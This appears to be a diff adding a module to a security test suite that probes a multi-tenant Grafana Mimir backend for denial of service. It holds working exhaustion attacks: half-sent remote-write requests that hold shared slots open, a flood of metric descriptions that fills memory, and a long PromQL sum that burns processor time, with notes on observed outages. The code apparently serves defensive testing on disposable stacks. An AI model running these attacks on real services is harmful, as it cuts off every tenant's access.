@@ -1,0 +1,165 @@
+"""Attacks on what all tenants share in a backend: its memory, its places, its processor.
+
+None reads or writes a byte that is not the attacker's. Each was seen to stop Mimir for everybody.
+"""
+
+from __future__ import annotations
+
+import re
+import socket
+import time
+from collections.abc import Callable, Iterable, Iterator
+from contextlib import ExitStack
+
+import cramjam
+
+from stackproof.model import Backend, Signal
+from stackproof.otlp.protobuf import field
+
+from .base import Attack, AttackRun, Expect, backend_url, basic
+from .wire import WireRequest, http1, send
+
+_BACKENDS_LIMIT = "the limits are the backends' own"
+_REMOTE_WRITE = (
+    "Content-Type: application/x-protobuf",
+    "Content-Encoding: snappy",
+    "X-Prometheus-Remote-Write-Version: 0.1.0",
+)
+
+
+def _gauge(attack_run: AttackRun, name: str) -> float:
+    """Return the sum of a metric of Mimir's own: how much of what is shared is taken."""
+    target = attack_run.target
+    url = f"{backend_url(target.stack, Backend.MIMIR)}/metrics"
+    text = target.client.pool.request("GET", url, retries=False).data.decode()
+    values = re.findall(rf"^{name}(?:{{.*}})? (\S+)$", text, re.MULTILINE)
+    return sum(map(float, values))
+
+
+# --- places ---------------------------------------------------------------------------------------
+
+_HALVES = 60
+#: What honest senders may have under way meanwhile.
+_UNDER_WAY = 10
+#: How long a half export is given to get to the backend. [s]
+_ARRIVES_S = 3.0
+
+
+def _half_exports(attack_run: AttackRun) -> Iterable[str]:
+    """Exports of which one byte comes: no backend may hear of them, and others are answered."""
+    if not attack_run.target.stack.disposable:
+        return
+    with ExitStack() as held:
+        for number in range(_HALVES):
+            # Caddy passes what says that it is incremental straight on, whatever is to be buffered.
+            lines = [attack_run.own, *_REMOTE_WRITE, *["Incremental: ?1"] * (number % 2)]
+            head = http1(
+                attack_run.gateway, "POST", "/api/v1/push", [*lines, "Content-Length: 999999"], b"x"
+            )
+            connection = held.enter_context(socket.create_connection(attack_run.gateway))
+            connection.sendall(head.data)
+        time.sleep(_ARRIVES_S)
+        taken = _gauge(attack_run, "cortex_distributor_inflight_push_requests")
+        if taken > _UNDER_WAY:
+            yield f"{taken:.0f} of Mimir's places, which all tenants share, wait for half exports"
+        answer = send(attack_run.write(Signal.METRICS, attack_run.own))
+        if not answer.accepted:
+            yield f"a whole export is not taken meanwhile: {answer.describe()}"
+
+
+# --- memory ---------------------------------------------------------------------------------------
+
+_DESCRIBED = 30_000
+#: What Mimir may keep for three tenants, and a little more. `max_global_metadata_per_user`
+_KEPT = 20_000
+
+
+def _described(names: Iterable[str]) -> bytes:
+    """Return a remote write of descriptions alone.
+
+    WriteRequest.metadata = 3; MetricMetadata.{metric_family_name = 2, help = 4}.
+    """
+    entries = (field(3, field(2, name) + field(4, "x" * 100)) for name in names)
+    return bytes(cramjam.snappy.compress_raw(b"".join(entries)))
+
+
+def _descriptions(attack_run: AttackRun) -> Iterable[str]:
+    """Descriptions of metrics without a series: no limit on series or samples bounds them."""
+    target = attack_run.target
+    if not target.stack.disposable:
+        return
+    before = _gauge(attack_run, "cortex_ingester_memory_metadata")
+    noisy = basic(target.bystander, target.password(target.bystander))
+    names = (f"described_{attack_run.forged.run}_{number}" for number in range(_DESCRIBED))
+    answer = send(
+        http1(
+            attack_run.gateway, "POST", "/api/v1/push", [noisy, *_REMOTE_WRITE], _described(names)
+        )
+    )
+    grown = _gauge(attack_run, "cortex_ingester_memory_metadata") - before
+    if grown > _KEPT:
+        yield f"Mimir keeps {grown:.0f} descriptions in memory: {answer.describe()}"
+    if not grown:
+        yield f"Mimir keeps no description, so that its limit is unproven: {answer.describe()}"
+
+
+# --- processor ------------------------------------------------------------------------------------
+
+_TERMS = 5_000
+
+
+def _endless_sum(attack_run: AttackRun) -> Iterator[WireRequest]:
+    """1+1+…: Mimir's time for it grows faster than its length."""
+    form = b"query=1" + b"%2B1" * _TERMS
+    now = int(time.time())
+    window = b"&start=%d&end=%d&step=1" % (now - 1, now)
+    for path, body in (("query", form), ("query_range", form + window)):
+        yield http1(
+            attack_run.gateway,
+            "POST",
+            f"/prometheus/api/v1/{path}",
+            [attack_run.own, "Content-Type: application/x-www-form-urlencoded"],
+            body,
+        )
+
+
+def _deed(
+    name: str,
+    does: str,
+    source: str,
+    after: Callable[[AttackRun], Iterable[str]],
+    passes: str = "",
+) -> Attack:
+    return Attack(
+        name=name,
+        does=does,
+        source=source,
+        expect=Expect.HARMLESS,
+        sends=lambda _: (),
+        after=after,
+        ineffective_because=passes,
+    )
+
+
+EXHAUSTION: tuple[Attack, ...] = (
+    _deed(
+        "half-exports",
+        "begins many exports and ends none",
+        "2,100 of one byte each: Mimir 3.0.5 takes 12 GB and answers no export (observed)",
+        _half_exports,
+    ),
+    _deed(
+        "flood-of-descriptions",
+        "describes metrics that have no series",
+        "max_global_metadata_per_user is off unless it is set (Mimir)",
+        _descriptions,
+        _BACKENDS_LIMIT,
+    ),
+    Attack(
+        name="endless-sum",
+        does=f"asks for the sum of {_TERMS} ones",
+        source="16,000 terms: no answer within a minute, and 2 GB of Mimir 3.0.5 (observed)",
+        sends=_endless_sum,
+        ineffective_because=_BACKENDS_LIMIT,
+    ),
+)
